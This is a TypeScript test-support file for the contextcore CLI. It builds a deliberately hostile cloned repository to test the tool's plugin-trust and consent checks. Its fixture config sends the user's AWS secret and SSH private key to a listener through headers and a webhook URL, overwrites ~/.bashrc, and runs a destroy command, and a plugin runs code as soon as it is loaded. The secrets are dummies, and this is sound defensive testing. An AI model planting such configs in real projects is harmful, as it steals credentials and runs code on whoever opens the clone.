/** A cloned repository of somebody who means ill, the home of who cloned it, and a server that is not on loopback. */
import { afterAll, expect } from "bun:test";
import { existsSync, readdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { v } from "../../src/contract/contextcore.ts";
import { locatePlugin } from "../../src/host/plugin/locate.ts";
import { pluginFiles } from "../../src/host/trust/files.ts";
import { entryFor, trustPlugin } from "../../src/host/trust/record.ts";
import { cleanEnv, type Finished, run } from "../support/binary.ts";
import { temporaryDirectory } from "../support/directory.ts";

export const SECRETS = {
  AWS_SECRET_ACCESS_KEY: "aws-s3cret-of-the-user",
  CONTEXTCORE_LOKI_TOKEN: "token-s3cret-of-the-user",
};
const KEY = "ssh-s3cret-of-the-user";

export interface Heard {
  readonly path: string;
  readonly headers: Record<string, string>;
}

/** Every interface: it is reached at 0.0.0.0, which is no loopback address. */
export function startListener() {
  const heard: Heard[] = [];
  const server = Bun.serve({
    port: 0,
    hostname: "0.0.0.0",
    fetch(request) {
      heard.push({ path: new URL(request.url).pathname, headers: Object.fromEntries(request.headers) });
      return new Response("no", { status: 404 });
    },
  });
  afterAll(() => server.stop(true));
  return { heard, url: `http://0.0.0.0:${server.port}` };
}

export interface Clone {
  readonly directory: string;
  readonly home: string;
  /** A file that the clone's plugin makes as soon as it is loaded. */
  readonly hasRun: () => boolean;
  /** Every file of the home that is not contextcore's own. */
  readonly homeFiles: () => readonly string[];
  run(args: readonly string[], env?: Readonly<Record<string, string>>): Promise<Finished>;
}

const OFF = ["tempo", "mimir", "grafana"].map((name) => `  ${name}: { enabled: false }\n`).join("");

/** What is in the clone besides; default everything that is ill. @param url where it would have things sent */
export function hostileClone(url: string, text = hostile(url)): Clone {
  const home = temporaryDirectory({ ".ssh/id_rsa": KEY, ".bashrc": "# mine\n" });
  const directory = temporaryDirectory({
    "contextcore.yaml": text.replaceAll("HOME", home),
    "plugin.ts": pluginSource(join(home, "ran")),
  });
  trustByLock(directory, "./plugin.ts");
  return placeOf(directory, home);
}

/** Runs of the program in a directory, by the user whose home it is. */
export const placeOf = (directory: string, home: string): Clone => ({
  directory,
  home,
  hasRun: () => existsSync(join(home, "ran")),
  homeFiles: () =>
    readdirSync(home, { recursive: true, encoding: "utf8" })
      .filter((name) => !name.startsWith(".contextcore") && statSync(join(home, name)).isFile())
      .map((name) => `${name}: ${readFileSync(join(home, name), "utf8")}`)
      .sort(),
  run: (args, env = {}) => run(args, { cwd: directory, env: { ...cleanEnv(home), ...SECRETS, ...env } }),
});

/** The lock says that the plugin is trusted, as its author likes it. */
export function trustByLock(directory: string, spec: string): void {
  const plugin = { name: "evil/plugin", about: "x", options: v.object({}) };
  trustPlugin(directory, spec, entryFor(plugin, pluginFiles(locatePlugin(spec, directory))));
}

export const pluginSource = (mark: string): string => `
import { writeFileSync } from "node:fs";
import { definePlugin, v } from "contextcore";
writeFileSync(${JSON.stringify(mark)}, "");
export default definePlugin({
  name: "evil/plugin",
  about: "x",
  options: v.object({ note: v.optional(v.string()) }),
  sink: () => ({ probe: async () => {}, deliver: async () => {} }),
});
`;

const hostile = (url: string): string => `name: evil
plugins: [./plugin.ts]
backends:
${OFF}  loki:
    url: ${url}/loki
    headers: { X-Aws: "\${AWS_SECRET_ACCESS_KEY}", X-Ssh: "file:HOME/.ssh/id_rsa" }
sinks:
  file: { path: HOME/.bashrc }
  webhook: { url: "${url}/hook/\${AWS_SECRET_ACCESS_KEY}" }
destroy:
  command: [touch, HOME/destroyed]
`;

/** A project with only these lines, and with one backend: the others are off. */
export const withLoki = (lines: string, more = ""): string =>
  `name: shop\nbackends:\n${OFF}  loki:\n${lines}${more}`;

export const write = ({ directory }: Clone, name: string, text: string): void =>
  writeFileSync(join(directory, name), text);

/** The file in which what a user agreed to is kept. */
export const storeOf = ({ home }: Clone): string => join(home, ".contextcore/agreements.json");

/** The claims as `config trust --json` has them: each as `kind value`, those that are not agreed to. */
export async function wanted(place: Clone, env: Readonly<Record<string, string>> = {}): Promise<string[]> {
  const { stdout } = await place.run(["config", "trust", "--json"], env);
  const { claims } = JSON.parse(stdout) as { claims: { kind: string; value: string; agreed: boolean }[] };
  return claims.filter(({ agreed }) => !agreed).map(({ kind, value }) => `${kind} ${value}`);
}

/** A clone whose user has agreed to it. */
export async function agreedClone(url: string, text: string): Promise<Clone> {
  const place = hostileClone(url, text);
  expect((await place.run(["config", "trust", "--yes"])).exitCode).toBe(0);
  return place;
}
